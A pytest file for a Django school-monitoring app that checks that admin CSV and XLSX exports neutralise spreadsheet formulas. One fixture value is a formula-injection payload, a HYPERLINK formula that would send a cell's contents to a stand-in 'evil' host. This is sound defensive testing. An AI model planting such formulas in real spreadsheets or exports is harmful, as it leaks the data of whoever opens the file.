"""The admin's CSV and XLSX exports (django-import-export) carry text, never formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from monitoring.models import ExamResult
from schools.models import Organisation
from schools.spreadsheets import TextCSV, TextXLSX

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil/?"&A1,"x")'
SHORT = "+7 999 123-45-67"


@pytest.fixture
def hostile():
    school = Organisation.objects.get(name="МОБУ СОШ № 6")
    school.name, school.short_name = NAME, SHORT
    school.save(update_fields=["name", "short_name"])
    ExamResult.objects.create(
        school=school, year=2025, exam="ОГЭ", subject="-знакомство", grade=9, participants=41
    )
    return school


def _export(client, url_name: str, fmt) -> bytes:
    url = reverse(url_name)
    form = client.get(url).context["form"]
    index = next(i for i, label in form.fields["format"].choices if label == fmt().get_title())
    data = {"format": index, "resource": 0}
    data |= {
        name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)
    }
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.mark.parametrize(
    ("url_name", "text"),
    [("admin:schools_organisation_export", NAME), ("admin:monitoring_examresult_export", "-знакомство")],
)
def test_the_admin_xlsx_has_no_formula_and_the_texts_as_typed(client, superuser, hostile, url_name, text):
    client.force_login(superuser)
    book = load_workbook(io.BytesIO(_export(client, url_name, TextXLSX)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert text in {c.value for c in cells if c.data_type == "s"}


def test_the_admin_xlsx_keeps_numbers_numbers(client, superuser, hostile):
    client.force_login(superuser)
    book = load_workbook(io.BytesIO(_export(client, "admin:monitoring_examresult_export", TextXLSX)))
    header, *rows = book.active.iter_rows()
    column = [c.value for c in header].index("participants")
    assert [(r[column].value, r[column].data_type) for r in rows if r[column].value == 41] == [(41, "n")]


def test_the_admin_csv_neutralises_a_formula_start(client, superuser, hostile):
    client.force_login(superuser)
    text = _export(client, "admin:schools_organisation_export", TextCSV).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + NAME, "'" + SHORT] == [
        v for v in next(r for r in rows if "'" + NAME in r) if v.startswith("'")
    ]
    assert all(line.startswith('"') for line in text.splitlines() if line)
